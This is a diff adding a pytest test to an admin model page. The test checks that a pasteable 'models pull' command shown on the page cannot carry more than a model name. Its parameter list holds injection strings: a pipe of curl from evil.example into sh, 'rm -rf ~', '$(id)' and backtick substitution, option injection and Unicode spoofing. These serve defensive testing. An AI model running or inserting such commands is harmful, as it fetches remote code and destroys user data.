@@ -200,6 +200,31 @@ def test_the_command_for_another_model_is_shown(engine, admin, settings_with):
     assert "run --rm models pull gpt2-medium" in admin.get("/admin/models").text
 
 
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "gpt2; curl evil.example | sh",
+        "gpt2\nrm -rf ~",
+        "gpt2 && id",
+        "$(id)",
+        "`id`",
+        "-h",
+        "a/-x",
+        "gpt2\u202e",
+        "gрt2",
+        "a'b",
+    ],
+    ids=ascii,
+)
+def test_a_command_holds_no_more_than_a_name(engine, admin, typed):
+    """It is there to be pasted into a terminal."""
+    page = admin.get("/admin/models", query_string={"fetch": typed}).text
+    commands = re.findall(r'<code class="command">(.*?)</code>', page, re.DOTALL)
+    assert commands
+    assert all(re.fullmatch(r"[\w ./:#-]+", command, re.ASCII) for command in commands)
+    assert not any("evil" in command or "id" in command.split() for command in commands)
+
+
 THEIRS = {"object": "list", "data": [{"id": "their-gpt2", "object": "model"}]}
 
 
